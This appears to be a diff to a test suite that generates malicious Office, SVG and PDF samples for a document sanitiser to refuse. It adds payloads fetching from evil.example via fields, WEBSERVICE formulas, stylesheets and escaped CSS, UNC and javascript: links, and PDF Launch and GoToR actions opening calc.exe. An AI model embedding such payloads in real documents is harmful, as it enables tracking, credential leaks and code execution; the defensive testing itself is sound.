@@ -464,6 +464,58 @@ def another_workbook(content: bytes, random: Random) -> bytes:
     return files.added(content, "xl/externalLinks/externalLink1.xml", link, OF[EXCEL] + ".externalLink+xml")
 
 
+def _loaded(content: bytes, part: str, is_a: str, random: Random) -> bytes:
+    """A part that acts, named and typed as something else, and loaded by its relationship."""
+    if "word/document.xml" in files.parts(content):
+        kind, held = (
+            "header",
+            '<w:hdr {}><w:p><w:fldSimple w:instr="INCLUDETEXT &quot;http://evil.example&quot;"/></w:p></w:hdr>',
+        )
+        xml = held.format('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"')
+    else:
+        kind, xml = "worksheet", f'<worksheet {SHEET}><f>_xlfn.WEBSERVICE("http://evil.example")</f></worksheet>'
+    target = "/" + (part.replace("/e", "/%65") if random.random() < 0.5 else part)
+    return files.related(files.added(content, part, _in_some_coding(xml, random), is_a), kind, target, external=False)
+
+
+@attack("wrong type", refusals.StrangeZip, WORD, EXCEL)
+def a_part_that_is_loaded_as_another_than_it_is_called(content: bytes, random: Random) -> bytes:
+    part = random.choice(["media/evil.dat", "media/evil.vml", "media/evil.svg", "customXml/evil.xml"])
+    return _loaded(content, part, "image/png" if part.endswith(".dat") else "application/xml", random)
+
+
+@attack("links", refusals.LinkedContent, *OFFICE)
+def a_stylesheet_before_a_part(content: bytes, random: Random) -> bytes:
+    suffix, _folder = folder_of(content)
+    made = files.parts(content)
+    said = b'<?xml-stylesheet type="text/xsl" href="http://evil.example/a.xsl"?>'
+    first = made[MAIN[suffix]]
+    place = first.index(b"?>") + 2 if first.startswith(b"<?xml") else 0
+    return files.packed({**made, MAIN[suffix]: first[:place] + said + first[place:]})
+
+
+@attack("links", refusals.LinkedContent, *OFFICE)
+def a_panel_that_is_fetched(content: bytes, random: Random) -> bytes:
+    xsn = '<customXsn xmlns="http://schemas.microsoft.com/office/2006/metadata/customXsn"><xsnLocation>{}</xsnLocation></customXsn>'
+    return files.added(content, "customXml/item9.xml", xsn.format(random.choice(FAR)).encode(), "application/xml")
+
+
+PICTURES_OF_VML = (
+    '<v:imagedata xmlns:o="o" o:href="{}"/>',
+    '<v:fill xmlns:o="o" o:althref="{}"/>',
+    "<v:stroke src='{}'/>",
+)
+
+
+@attack("links", refusals.LinkedContent, *OFFICE)
+def a_picture_of_a_shape_from_outside(content: bytes, random: Random) -> bytes:
+    _suffix, folder = folder_of(content)
+    shape = random.choice(PICTURES_OF_VML).format(random.choice(FAR))
+    vml = f'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape>{shape}</v:shape></xml>'
+    is_a = "application/vnd.openxmlformats-officedocument.vmlDrawing"
+    return files.added(content, f"{folder}/drawings/vmlDrawing9.vml", vml.encode(), is_a)
+
+
 # --- fields, formulas, actions ---------------------------------------------------------------------------------------
 
 
@@ -619,6 +671,21 @@ def a_formula_over_another_workbook(content: bytes, random: Random) -> bytes:
     return _sheet(content, random.choice(WORKBOOKS))
 
 
+@attack("formulas", refusals.LinkedWorkbook, EXCEL)
+def a_place_in_another_workbook_as_a_text(content: bytes, random: Random) -> bytes:
+    place = random.choice(["'http://evil.example/a.ods'#$S.A1", "'\\\\evil\\s\\[a.xlsx]S'!A1", "[a.xlsx]S!A1"])
+    return _sheet(content, f'INDIRECT("{place}")')
+
+
+@attack("links", refusals.OddLink, EXCEL)
+def a_link_of_a_cell_to_a_place_that_acts(content: bytes, random: Random) -> bytes:
+    place = random.choice(["\\\\evil\\s\\a.exe", "file://evil/s/a.exe", "//evil/a", "&#92;&#92;evil", "javascript:a"])
+    name = "xl/worksheets/sheet1.xml"
+    made = files.parts(content)
+    links = f'<hyperlinks><hyperlink ref="A1" location="{place}" display="a"/></hyperlinks></worksheet>'
+    return files.packed({**made, name: made[name].replace(b"</worksheet>", links.encode())})
+
+
 COMPUTED = ('HYPERLINK(IF(A1=1,"\\\\evil\\share"),"a")', 'HYPERLINK("java"&amp;"script:alert(1)")',
             'HYPERLINK(A1&amp; "file://evil/a")')  # fmt: skip
 
@@ -750,7 +817,12 @@ def a_film_played_by_a_web_page(content: bytes, random: Random) -> bytes:
 FETCHED_BY_SVG = ('<image xlink:href="http://evil.example/a.png"/>', '<use href="//evil/a.svg#a"/>',
                   "<style>@import 'a.css';</style>", '<rect fill="url( http://evil.example/a#b)"/>',
                   "<style>rect {{ fill: <!-- -->url(\"\\\\evil\\a\") }}</style>")  # fmt: skip
-DONE_BY_SVG = ("<script>alert(1)</script>", '<rect onload="alert(1)"/>', "<foreignObject/>")
+FETCHED_BY_SVG += ('<g xml:base="http://evil.example/"><image href="a.png"/></g>',
+                   "<rect style='fill: image-set(\"http://evil.example/a.png\" 1x)'/>",
+                   "<style>rect {{ fill: u\\72l(http://evil.example/a) }}</style>",
+                   "<style>@\\69mport 'http://evil.example/a.css';</style>")  # fmt: skip
+DONE_BY_SVG = ("<script>alert(1)</script>", '<rect onload="alert(1)"/>', "<foreignObject/>",
+               '<a href="#"><set attributeName="href" to="javascript:alert(1)"/></a>')  # fmt: skip
 
 
 def _with_svg(content: bytes, inside: str) -> bytes:
@@ -1059,6 +1131,33 @@ def data_sent_away(document: pikepdf.Pdf, random: Random) -> None:
         Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(S=kind, F=String("http://a"))
     )
     document.pages[0].obj.Annots = Array([link])
+
+
+@attack("pdf actions", refusals.Broken, ".pdf")
+def a_key_twice(_content: bytes, random: Random) -> bytes:
+    """One reader takes the first, another the last."""
+    catalogue, page = random.choice([
+        ("/OpenAction << /S /Launch /F (calc.exe) >> /OpenAction [3 0 R /Fit]", ""),
+        ("", "/AA << /O << /S /URI /URI (http://evil.example) >> >> /AA << >>"),
+        ("", "/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (a) /S /URI /URI (http://a) >> >>]"),
+    ])  # fmt: skip
+    return files.pdf_of(
+        f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] {page} >>",
+    )  # fmt: skip
+
+
+@pdf_attack("pdf actions", refusals.PdfAction)
+def a_program_beside_the_document(document: pikepdf.Pdf, random: Random) -> None:
+    action = Dictionary(S=Name.GoToR, F=String(random.choice(["calc.exe", "a.LNK", "b/c.hta"])), D=Array([0, Name.Fit]))
+    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
+    document.pages[0].obj.Annots = Array([link])
+
+
+@pdf_attack("pdf actions", refusals.LinkedContent)
+def a_document_of_the_web(document: pikepdf.Pdf, random: Random) -> None:
+    held = Dictionary(FS=Name.URL, F=String("evil.example/a.pdf"))
+    document.Root.OpenAction = Dictionary(S=Name.GoToR, F=held, D=Array([0, Name.Fit]))
 
 
 @pdf_attack("pdf actions", refusals.LinkedContent)
